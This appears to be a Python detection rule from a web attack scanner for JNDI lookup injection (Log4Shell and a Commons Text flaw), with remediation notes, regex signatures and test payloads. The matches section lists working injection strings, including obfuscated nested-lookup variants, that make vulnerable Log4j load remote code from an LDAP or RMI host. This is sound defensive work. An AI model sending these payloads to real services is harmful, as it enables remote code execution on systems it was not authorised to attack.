"""JNDI lookups: a value that makes a logger or framework load code from elsewhere (Log4Shell and its kin).

`${jndi:ldap://host/a}` in any field that is logged made Log4j 2 fetch and run a class. Nested lookups hide it:
`${${lower:j}ndi:${lower:l}dap://...}`, `${${::-j}${::-n}di:...}`.

The rule looks for lookups of JNDI in every value and name, also disguised by other lookups.

To fix: Log4j 2.17.1 or newer (2.12.4, 2.3.2 for old Java); forbid outgoing connections that a service does not need.

What it does not protect against: lookups that a later system builds from harmless parts.
"""

from yett.model.rule import AttackRule, Payload, Severity
from yett.rules.inspection.signature import REQUEST, Signature

RULE = AttackRule(
    id="jndi-lookup",
    title="JNDI lookup (Log4Shell)",
    severity=Severity.CRITICAL,
    owasp=("API8:2023", "API10:2023"),
    cwe=(917, 502, 74),
    references=(
        "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
        "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    ),
    matches=(
        Payload("${jndi:ldap://192.0.2.1/a}", "header User-Agent"),
        Payload("${${lower:j}ndi:${lower:l}${lower:d}ap://192.0.2.1/a}", "query q"),
        Payload("${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://192.0.2.1/a}"),
        Payload("${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.1/a}", "header Referer"),
        Payload("${jnd${upper:ı}:ldap://192.0.2.1/a}"),
        Payload("ldap://192.0.2.1:1389/Exploit", "query dataSource"),
        Payload("${date:'j'}${date:'n'}di", "cookie sid"),
    ),
    passes=(
        Payload("${user.name} and ${env.HOME}"),
        Payload("JNDI names such as java:comp/env/jdbc/db"),
        Payload("ldap is a protocol; ldap://"),
        Payload("${VAR:-default} in a shell"),
    ),
)

_ANY = REQUEST

SIGNATURES = (
    Signature(
        id="lookup",
        pattern=rb"\$\{\s*jndi\s*:|\bjndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?)\b",
        reason="a lookup of JNDI",
        where=_ANY,
    ),
    Signature(
        id="nested",
        pattern=rb"\$\{[^${}]{0,40}\$\{\s*(?:lower|upper|env|sys|date|main|ctx|java|web|docker|k8s|spring|bundle|marker"
        rb"|map|sd|log4j|event|base64|[^{}:$]{0,40}:[^{}$]{0,40}:-|:{1,3}-)",
        reason="a lookup within a lookup",
        where=_ANY,
    ),
    Signature(
        id="spelt",
        pattern=rb"\$\{\s*(?:(?:lower|upper|date)\s*:\s*[^{}$]{1,20}\}|(?:env|sys|main"
        rb"|::?-?)[^{}$]{0,40}:-[jndilaprmsh:]{1,4}\s*\}|:{1,3}-[jndilaprmsh:]{1,4}\s*\}"
        rb"|base64:[A-Za-z0-9+/=]{4,})",
        reason="letters spelt by lookups",
        where=_ANY,
    ),
    Signature(
        id="address",
        pattern=rb"^\s*(?:ldaps?|rmi|iiop|corbaname|corbaloc)://[\w.\-\[\]:]{1,200}/\w",
        reason="an address of a directory that serves objects",
        confirm=lambda found: len(found.text) <= 300 and b"dc=" not in found.text.lower(),
    ),
    Signature(
        id="fetches",
        pattern=rb"\$\{\s*(?:script|dns|url|file|xpath|const|urlDecoder)\s*:\s*(?:javascript|js|nashorn|address|utf-8"
        rb"|https?|[\w\-]{1,20}:)[^}]*\}",
        reason="a lookup of Commons Text that runs or fetches (CVE-2022-42889)",
        where=_ANY,
    ),
)
